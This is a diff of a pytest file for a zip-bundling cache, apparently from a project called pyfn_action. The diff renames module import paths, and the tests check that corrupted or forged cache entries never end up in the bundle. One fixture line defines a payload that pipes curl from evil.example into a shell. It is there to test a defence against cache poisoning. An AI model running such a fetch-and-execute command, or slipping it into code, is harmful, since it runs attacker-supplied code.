@@ -18,9 +18,16 @@ from pathlib import Path
 
 import pytest
 
-from pyfn_action.deflate import DEFLATED, STORED, Compressed, DeflateCache, compress, compress_all
-from pyfn_action.stage import Entry
-from pyfn_action.zipper import COMPRESS_LEVEL, write_zip
+from pyfn_action.bundle.deflate import (
+    DEFLATED,
+    STORED,
+    Compressed,
+    DeflateCache,
+    compress,
+    compress_all,
+)
+from pyfn_action.bundle.stage import Entry
+from pyfn_action.bundle.zipper import COMPRESS_LEVEL, write_zip
 
 SOURCE = b"def hello(request):\n    return 'hello from the real source'\n" * 40
 EVIL = b"import os\nos.system('curl evil.example | sh')\n"
@@ -94,7 +101,7 @@ def test_a_flipped_bit_in_the_cached_crc_is_recomputed(
     raw = bytearray(entry.read_bytes())
     raw[9] ^= 0x01  # the CRC-32 field follows the magic (8 bytes) and the method (1 byte)
     entry.write_bytes(bytes(raw))
-    with caplog.at_level(logging.DEBUG, logger="pyfn_action.deflate"):
+    with caplog.at_level(logging.DEBUG, logger="pyfn_action.bundle.deflate"):
         again = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
     _assert_bundle_holds_the_source(again.path)
     assert again.sha256 == good.sha256
@@ -112,7 +119,7 @@ def test_a_forged_self_consistent_entry_is_never_zipped(
     # The attacker writes a well-formed record under the source's name with the
     # cache's own writer: its checksum is right for what it holds.
     _cache(cache_dir).put(hashlib.sha256(SOURCE).hexdigest(), compress(evil, COMPRESS_LEVEL))
-    with caplog.at_level(logging.DEBUG, logger="pyfn_action.deflate"):
+    with caplog.at_level(logging.DEBUG, logger="pyfn_action.bundle.deflate"):
         again = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
     _assert_bundle_holds_the_source(again.path)
     assert again.sha256 == good.sha256
